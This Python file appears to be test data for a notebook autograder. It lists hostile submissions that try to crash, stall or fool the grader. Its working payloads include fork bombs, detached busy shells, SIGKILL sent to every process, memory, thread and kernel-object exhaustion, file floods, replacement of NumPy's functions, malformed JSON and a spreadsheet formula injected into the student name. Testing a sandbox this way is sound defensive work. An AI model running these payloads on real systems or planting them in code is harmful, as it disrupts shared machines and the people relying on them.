"""Ways of being hostile, as data: what each hands in, and what it is worth.

The author of each has done the exercise `HOST` wrongly, or every exercise, and what is left
honestly; or everything honestly, in a file that is meant to stop the grader.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from textwrap import indent
from typing import Any

Notebook = dict[str, Any]
HOST = "glorot_uniform"
_DUPLICATES = 100_000
_WRONG = "\n\ndef NAME(*args, **kwargs):\n    return None\n"


def _as_it_is(notebook: Notebook) -> str:
    return json.dumps(notebook)


@dataclass(frozen=True)
class Way:
    """One way of being hostile.

    Attributes
    ----------
    name
        What it is called in the table.
    source
        What stands in the answer cell of `HOST`, with ``NAME`` for the exercise's name; without
        it the right answer does.
    everywhere
        Whether that stands in every answer cell.
    file
        Makes the submitted file out of the notebook.
    timestamp
        What the submission's ``timestamp.txt`` says.
    student
        The student's name, with ``{}`` for what all names are made of.
    graded
        Whether the file can be graded at all.
    """

    name: str
    source: str = ""
    everywhere: bool = False
    file: Callable[[Notebook], str] = _as_it_is
    timestamp: str = ""
    student: str = "{}"
    graded: bool = True

    def spoils(self, exercise: str) -> bool:
        """Whether its answer to an exercise is a wrong one."""
        return bool(self.source) and (self.everywhere or exercise == HOST)

    def handed_in(self, notebook: Notebook, exercises: Iterable[str]) -> str:
        """Return the text of its file, made from a right `notebook`, which is changed."""
        sources = {name: self.source.replace("NAME", name) for name in exercises}
        for cell in notebook["cells"]:
            name = cell["metadata"].get("nbgrader", {}).get("grade_id")
            if name in sources and self.spoils(name):
                cell["source"] = [sources[name]]
        return self.file(notebook)


def _beside(name: str, code: str, **more: Any) -> Way:
    """Return a way that does its work in the cell, before it defines a wrong function."""
    return Way(name, code.strip() + _WRONG, **more)


def _within(name: str, body: str, before: str = "", **more: Any) -> Way:
    """Return a way that does its work whenever the function is called."""
    lines = "".join(f"    {line}\n" for line in body.strip().splitlines())
    return Way(name, f"{before}\ndef NAME(*args, **kwargs):\n{lines}", **more)


def _many_cells(notebook: Notebook) -> str:
    """Put the same small answer cell before the real ones, again and again."""
    again = {
        "cell_type": "code",
        "metadata": {"nbgrader": {"grade_id": HOST, "solution": True}},
        "source": "raise SystemExit",
    }
    return json.dumps({**notebook, "cells": [*[again] * _DUPLICATES, *notebook["cells"]]})


def _many_copies(notebook: Notebook) -> str:
    """Hand in each answer so often that the file is larger than one that is read."""
    copies = [*notebook["cells"]] * (_DUPLICATES // len(notebook["cells"]))
    return json.dumps({**notebook, "cells": copies})


_SHELLS = """
import subprocess
for _ in range(50):  # each is two, and the first of them has no parent in here any more
    subprocess.Popen(["sh", "-c", "(while :; do :; done) & exec sh -c 'while :; do :; done'"],
                     process_group=0)
"""
_FRAMES = """
import json, os, struct

def flood(header, body=b"", times=1):
    text = json.dumps(header).encode()
    frame = struct.pack("!II", len(text), len(body)) + text + body
    while True:
        view = memoryview(frame * times)
        while view:
            view = view[os.write(3, view):]
"""

WAYS = (
    _beside("detached busy shells", _SHELLS),
    _within("sleeps in every call", "import time\ntime.sleep(1000)", everywhere=True),
    _beside("an endless loop in a cell", "while True:\n    pass"),
    _within("an endless loop in a call", "while True:\n    pass"),
    _within(
        "an endless loop in __del__",
        "return Trap()",
        """
class Trap:
    def __del__(self):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                continue
""",
    ),
    _beside(
        "a growing bytearray",
        "hoard = bytearray()\nwhile True:\n    hoard.extend(bytes(range(256)) * 4096)",
    ),
    _beside(
        "memory in many processes",
        """
import os, time
for _ in range(100):
    if os.fork() == 0:
        hoard = bytearray(os.urandom(4096)) * (100 << 8)
        time.sleep(1000)
time.sleep(1000)
""",
    ),
    _beside(
        "a fork bomb in a cell",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    ),
    _within(
        "a fork bomb in every call",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        everywhere=True,
    ),
    _within(
        "a flood of frames with wrong numbers",
        "flood({'arrays': [], 'value': None, 'number': 10**6}, times=500)",
        _FRAMES,
    ),
    _within(
        "a flood of frames of 64 MB with wrong numbers",
        """
array = {"dtype": "<f4", "shape": [1 << 24], "nbytes": 1 << 26}
flood({"arrays": [array], "value": {"array": 0}, "number": 10**6}, bytes(1 << 26))
""",
        _FRAMES,
    ),
    _within(
        "a flood of frames of a megabyte of JSON",
        "flood({'arrays': [], 'value': {'list': [[]] * 250_000}, 'number': 10**6})",
        _FRAMES,
    ),
    _within("replies of 64 MB to every call", "return np.zeros(1 << 24, 'f4')", everywhere=True),
    _beside("300,000 lines printed", "for number in range(300_000):\n    print('line', number)"),
    _within(
        "300,000 lines printed in every call",
        "for number in range(300_000):\n    print('line', number)",
        everywhere=True,
    ),
    _beside(
        "a million empty files",
        """
for number in range(1_000_000):
    try:
        open(f"/scratch/{number}", "x").close()
    except OSError:
        pass
""",
    ),
    _beside(
        "objects of the kernel, by ctypes",
        """
import ctypes
libc = ctypes.CDLL(None)
for _ in range(1000):
    print(libc.semget(0, 250, 0o1600), libc.shmget(0, ctypes.c_size_t(1 << 24), 0o1600),
          libc.syscall(248, b"user", b"key", bytes(1000), 1000, -4),  # add_key
          libc.syscall(250, 1, None),  # keyctl: join a session
          libc.socketpair(1, 1, 0, (ctypes.c_int * 2)()), libc.socket(16, 3, 0))
""",
    ),
    _beside(
        "signals to everything",
        """
import os, signal
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for target in (-1, *range(1, 40_000)):
        try:
            os.kill(target, number)
        except OSError:
            pass
""",
    ),
    _beside(
        "NumPy's functions replaced",
        """
for name in dir(np):
    if callable(getattr(np, name)) and not isinstance(getattr(np, name), type):
        setattr(np, name, lambda *args, **kwargs: True)
""",
    ),
    _within(
        "recursion without a limit",
        "import sys\nsys.setrecursionlimit(10**9)\nreturn NAME(*args, **kwargs)",
        everywhere=True,
    ),
    Way("100,000 duplicated cells", file=_many_cells),
    Way("100,000 copies of answers, too large", file=_many_copies, graded=False),
    Way("JSON that ends too soon", file=lambda book: json.dumps(book)[:-100], graded=False),
    Way("JSON of nested lists", file=lambda _: '{"cells": ' + "[" * 1_000_000, graded=False),
    Way("a timestamp that is no time", timestamp="9" * 999),
    Way("a formula as a name", student="=1+1,{}"),
    _within(
        "sleeps that are just short enough", "import time\ntime.sleep(9)\nreturn 0", everywhere=True
    ),
    _within(
        "ends after a slow start, in every call",
        "import os\nos._exit(0)",
        "import time\ntime.sleep(5)\n",
        everywhere=True,
    ),
    _beside(
        "threads without end",
        """
import threading
def spin():
    while True:
        pass
for _ in range(100_000):
    try:
        threading.Thread(target=spin, daemon=True).start()
    except (RuntimeError, MemoryError):
        break
""",
    ),
    _within(
        "busy shells, and an endless loop in every call",
        "while True:\n    pass",
        'if "subprocess" not in globals():  # once for all cells\n' + indent(_SHELLS, "    "),
        everywhere=True,
    ),
)
